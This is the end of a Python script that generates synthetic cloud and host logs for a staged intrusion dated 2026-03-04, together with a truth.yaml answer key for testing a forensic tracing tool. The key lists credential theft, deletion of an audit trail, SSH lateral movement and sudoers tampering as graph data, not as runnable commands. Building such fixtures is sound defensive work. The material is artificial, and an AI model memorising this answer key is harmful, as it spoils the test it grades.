    nodes = [(ip1, "entry", "shown"), (ip2, "origin", "shown"), (ci, "controlled", "shown"), (ci_user, "controlled", "shown"), (new, "controlled", "shown"),
             (backup, "controlled", "shown"), (f"account:{ACCOUNT}", "reached", "shown"), (exports, "exposed", "shown"), (secrets, "exposed", "shown"),
             (ssh_key, "exposed", "shown"), (backups, "exposed", "shown"), (dump, "exposed", "shown"), (f"resource:{TRAIL}", "changed", "shown"),
             *((f"{exports}/{part}", "exposed", "shown") for part in EXPORTS_READ),
             (stolen, "controlled", "shown"), (b_sshd, "controlled", "shown"), (b_ses, "controlled", "shown"), ("user:deploy@bastion-1", "controlled", "shown"),
             ("host:bastion-1", "reached", "shown"), ("file:bastion-1:/home/deploy/.ssh/id_db", "exposed", "shown"), ("host:web-1", "reached", "possible"),
             (second, "controlled", "likely"), (d_sshd, "controlled", "likely"), (d_ses, "controlled", "likely"), ("user:deploy@db-1", "controlled", "likely"),
             ("host:db-1", "controlled", "likely"), ("user:root@db-1", "controlled", "likely"), ("user:support2@db-1", "controlled", "likely"),
             ("file:db-1:/etc/sudoers.d/support2", "changed", "likely")]
    hops = [(ip1, "used", ci, "09:12:04", cloud), (ci, "logged_in", ci_user, "09:12:04", cloud), (ci, "on", f"account:{ACCOUNT}", "09:12:04", cloud),
            (ci, "listed", exports, "09:14:10", cloud), *((ci, "read", f"{exports}/{p}", f"09:{15 + i}:20", cloud) for i, p in enumerate(EXPORTS_READ)),
            (ci, "listed", secrets, "09:24:40", cloud), (ci, "read", ssh_key, "09:25:12", cloud), (ci, "created", new, "09:41:15", iam),
            (ci, "granted", backup, "09:41:15", iam), (ip1, "used", ci, "09:13:02", iam), (ci, "logged_in", ci_user, "09:13:02", iam),
            (ci, "on", f"account:{ACCOUNT}", "09:13:02", iam), (ip2, "used", new, "09:47:30", cloud),
            (ip2, "used", new, "11:05:19", iam), (new, "logged_in", backup, "09:47:30", cloud), (new, "listed", backups, "09:50:11", cloud),
            (new, "read", dump, "09:51:37", cloud), (new, "deleted", f"resource:{TRAIL}", "10:02:00", cloud),
            (ip1, "used", stolen, "10:08:21", b_sys), (ip1, "logged_in", b_sshd, "10:08:21", b_sys), (b_sshd, "logged_in", "user:deploy@bastion-1", "10:08:21", b_sys),
            (b_sshd, "on", "host:bastion-1", "10:08:21", b_sys), (b_sshd, "logged_in", b_ses, "10:08:21", b_run), (ip1, "logged_in", b_ses, "10:08:21", b_run),
            (b_ses, "logged_in", "user:deploy@bastion-1", "10:08:21", b_run), (b_ses, "on", "host:bastion-1", "10:08:21", b_run),
            (b_ses, "read", "file:bastion-1:/home/deploy/.ssh/id_db", "10:09:20", b_run), (b_ses, "connected", "host:web-1", "10:11:40", b_run),
            (b_ses, "passed_on", d_sshd, "10:15:03", f"{b_run}+{d_sys}"), (b_ses, "passed_on", d_ses, "10:15:03", f"{b_run}+{d_run}"),
            (d_sshd, "logged_in", d_ses, "10:15:03", d_run), (d_sshd, "proved_by", second, "10:15:03", d_sys), (d_sshd, "logged_in", "user:deploy@db-1", "10:15:03", d_sys),
            (d_ses, "logged_in", "user:deploy@db-1", "10:15:03", d_run), (d_sshd, "on", "host:db-1", "10:15:03", d_sys), (d_ses, "on", "host:db-1", "10:15:03", d_run),
            ("user:deploy@db-1", "became", "user:root@db-1", "10:16:30", d_sys), (d_ses, "became", "user:root@db-1", "10:16:30", d_run),
            (d_ses, "created", "user:support2@db-1", "10:19:12", d_run), (d_ses, "wrote", "file:db-1:/etc/sudoers.d/support2", "10:20:05", d_run),
            (d_ses, "connected", ip2, "10:26:44", d_run)]
    out = ["# What happened on 2026-03-04, as compose.py composed it; the key that tests hold the scope against.",
           "# `status` and `level` as in crates/trace/src/scope. A hop whose source is `A+B` needs both.",
           f"indicator: {ip1}", f"entry: {ip1}", "at: 2026-03-04T09:12:04Z", "addresses:"]
    out += [f"  {h.address}: {h.name}" for h in (bastion, db, web)]
    out += ["nodes:"] + [f'  - {{entity: "{e}", status: {s}, level: {l}}}' for e, s, l in nodes]
    out += ["hops:"] + [f'  - {{from: "{f}", relation: {r}, to: "{to}", at: "2026-03-04T{t}Z", source: "{src}"}}' for f, r, to, t, src in hops]
    out += ["data_exposed:", f'  - {{entity: "{exports}", objects: {len(EXPORTS_READ)}, people: 48200, owner: team-data}}',
            f'  - {{entity: "{ssh_key}", owner: team-platform}}', f'  - {{entity: "{dump}", owner: team-platform}}',
            "vendors: [acme-analytics, aws]", "people: 48200", "exfiltration: seen", "blind_spots:",
            f'  - {{what: "trail stopped", source: "{cloud}", from: "2026-03-04T10:02:00Z", to: "2026-03-04T10:42:00Z"}}',
            '  - {what: "web-1 sends no runtime log", host: web-1, facet: runtime}', '  - {what: "no network log at all", facet: network}']
    return "\n".join(out) + "\n"


def write_cloud(folder):
    bundles = {}
    for t, region, record in sorted(records, key=lambda r: (r[0], r[1])):
        slot = t.replace(minute=t.minute - t.minute % 30, second=0)
        bundles.setdefault((region, slot), []).append(record)
    for (region, slot), found in sorted(bundles.items()):
        tail = "".join(RANDOM.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
        name = f"{ACCOUNT}_CloudTrail_{region}_{later(slot, 1800).strftime('%Y%m%dT%H%MZ')}_{tail}.json.gz"
        body = json.dumps({"Records": found}, separators=(",", ":")).encode()
        (folder / name).write_bytes(gzip.compress(body, 9, mtime=0))


def main():
    for day in (CLEAN, INCIDENT):
        cloud_day(day)
        host_day(day)
    cloud_intrusion()
    one, two = host_intrusion()
    logs = HERE / "logs"
    shutil.rmtree(logs, ignore_errors=True)
    for folder in ("cloudtrail", "bastion-1/audit", "db-1/audit", "web-1"):
        (logs / folder).mkdir(parents=True)
    write_cloud(logs / "cloudtrail")
    for host in (bastion, db, web):
        (logs / host.name / "auth.log").write_text(host.text())
        if host.audited:
            (logs / host.name / "audit" / "audit.log").write_text(host.audit_text())
    (HERE / "truth.yaml").write_text(truth(one, two))


if __name__ == "__main__":
    main()
